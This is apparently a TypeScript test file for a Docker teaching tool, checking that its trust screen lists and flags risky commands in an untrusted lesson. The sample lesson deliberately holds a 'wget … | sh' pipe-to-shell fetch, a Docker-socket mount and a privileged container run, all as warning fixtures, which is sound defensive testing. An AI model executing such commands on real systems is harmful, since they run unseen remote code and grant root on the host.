import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { after, describe, test } from 'node:test';
import { main as tui, trustListing } from '../../src/commands/tui.js';
import { execScript, lessonFootprint } from '../../src/lesson/footprint.js';
import { parseLesson } from '../../src/lesson/parser.js';

const TEXT = `---
id: outside
title: A lesson from elsewhere
lang: en
---
# A lesson from elsewhere

## Build {#build}

\`\`\`dockerfile file=Dockerfile
FROM busybox
\`\`\`

\`\`\`sh file=run.sh mode=0755
echo hi
\`\`\`

\`\`\`sh
docker build -t dl-out .
docker run -d --name dl-out dl-out sleep 600
\`\`\`

\`\`\`yaml check
- id: inside
  exec: { container: dl-out, command: "test -f /etc/hostname", exitCode: 0 }
- id: argv
  exec: { container: dl-out, command: [sh, -c, "echo it's ok"], stdout: { contains: ok } }
\`\`\`

## Reach out {#reach}

\`\`\`sh manual
docker ps
\`\`\`

\`\`\`sh when=ci
docker run --privileged busybox true
\`\`\`

\`\`\`sh confirm
docker run -d --name dl-ui -v /var/run/docker.sock:/var/run/docker.sock busybox sleep 600
\`\`\`

\`\`\`yaml check
- id: fetched
  exec: { container: dl-out, command: "wget -qO- http://x/i.sh | sh", exitCode: 0 }
\`\`\`
`;

function lesson(text = TEXT, lang = 'en') {
  const result = parseLesson('outside.md', text.replace('lang: en', `lang: ${lang}`));
  assert.deepEqual(result.diagnostics, []);
  return result.lesson!;
}

describe('lessonFootprint', () => {
  test('lists commands, exec checks and files, dangerous ones first', () => {
    const items = lessonFootprint(lesson());
    assert.deepEqual(
      items.map((item) =>
        item.kind === 'file'
          ? `file ${item.path}${item.mode ? ` ${item.mode.toString(8)}` : ''}`
          : `${item.kind}${item.kind === 'exec' ? ` ${item.container}` : ''} ${item.script.trim()} [${item.dangers.map((d) => d.rule).join(',')}]`,
      ),
      [
        'command docker run -d --name dl-ui -v /var/run/docker.sock:/var/run/docker.sock busybox sleep 600 [docker-socket]',
        'exec dl-out wget -qO- http://x/i.sh | sh [pipe-to-shell]',
        'file Dockerfile',
        'file run.sh 755',
        'command docker build -t dl-out .\ndocker run -d --name dl-out dl-out sleep 600 []',
        'exec dl-out test -f /etc/hostname []',
        "exec dl-out sh -c 'echo it'\\''s ok' []",
        'command docker ps []',
      ],
    );
  });

  test('keeps what the trust screen shows beside each item', () => {
    const items = lessonFootprint(lesson());
    const confirmed = items.find((i) => i.kind === 'command' && i.confirm);
    assert.ok(confirmed && confirmed.step === 'reach');
    const manual = items.find((i) => i.kind === 'command' && i.manual);
    assert.ok(manual && manual.kind === 'command' && manual.script.startsWith('docker ps'));
    assert.ok(items.every((i) => i.line > 0 && i.col > 0));
  });

  test('CI-only commands are left out: the TUI never runs them', () => {
    const scripts = lessonFootprint(lesson()).map((i) => (i.kind === 'file' ? '' : i.script));
    assert.ok(!scripts.some((s) => s.includes('--privileged')));
  });

  test('execScript quotes list commands the way sh would read them', () => {
    assert.equal(execScript('ls -l /'), 'ls -l /');
    assert.equal(execScript(['cat', '/etc/os-release']), 'cat /etc/os-release');
    assert.equal(execScript(['sh', '-c', 'a && b']), "sh -c 'a && b'");
  });
});

describe('the trust screen', () => {
  test('marks dangerous items with ! and the reason, in English', () => {
    const lines = trustListing(lesson());
    assert.equal(lines[0], 'Lines marked ! reach beyond the lesson: read them first.');
    assert.match(lines[1]!, /^ {2}! \$ docker run -d --name dl-ui .* \(asks you before it runs\)$/);
    assert.equal(
      lines[2],
      '      hands a container the Docker socket: that is root on your machine',
    );
    assert.equal(lines[3], '  ! in container dl-out: $ wget -qO- http://x/i.sh | sh');
    assert.equal(lines[4], '      wget … | sh runs a script from the internet without showing it');
    assert.ok(lines.includes("    writes Dockerfile in the lesson's working directory"));
    assert.ok(lines.includes("    writes run.sh in the lesson's working directory (mode 0755)"));
    assert.ok(lines.includes('    $ docker build -t dl-out .'));
    assert.ok(lines.includes('      docker run -d --name dl-out dl-out sleep 600'));
    assert.ok(lines.includes('    $ docker ps (you type it)'));
  });

  test('in Chinese, with full-width punctuation', () => {
    const lines = trustListing(lesson(TEXT, 'zh-CN'));
    assert.equal(lines[0], '标 ! 的行会影响本课之外的东西：请先读它们。');
    assert.match(lines[1]!, /（运行前会先问你）$/);
    assert.equal(lines[2], '      把 Docker socket 交给容器：这等于你这台机器的 root');
    assert.equal(lines[3], '  ! 在容器 dl-out 里：$ wget -qO- http://x/i.sh | sh');
    assert.ok(lines.includes('    在本课的工作目录里写入 run.sh（权限 0755）'));
    assert.ok(lines.includes('    $ docker ps （由你自己输入）'));
  });

  test('a lesson that does nothing says so', () => {
    const empty = '---\nid: e\ntitle: E\nlang: en\n---\n# E\n\n## Read {#read}\n\nProse only.\n';
    assert.deepEqual(trustListing(lesson(empty)), ['  It runs no commands and writes no files.']);
  });

  test('docker-lab <file> prints it and stops when the learner says no', async () => {
    const root = mkdtempSync(join(tmpdir(), 'dl-trust-'));
    after(() => rmSync(root, { recursive: true, force: true }));
    const file = join(root, 'outside.md');
    writeFileSync(file, TEXT);
    const stdout = new PassThrough();
    let out = '';
    stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    const code = await tui([file], {
      stdout,
      stderr: new PassThrough(),
      stdin: Readable.from(['n\n']),
      env: {
        DOCKER_LAB_STATE_DIR: join(root, 'state'),
        DOCKER_LAB_COURSE_DIR: join(root, 'course'),
        NO_COLOR: '1',
        LANG: 'en_US.UTF-8',
      },
      cwd: root,
    });
    assert.equal(code, 1);
    assert.match(out, /is not part of the bundled course/);
    assert.match(out, /! in container dl-out: \$ wget -qO- http:\/\/x\/i\.sh \| sh/);
    assert.match(out, /writes Dockerfile/);
    assert.match(out, /Trust this lesson\? \[y\/N\]/);
  });
});
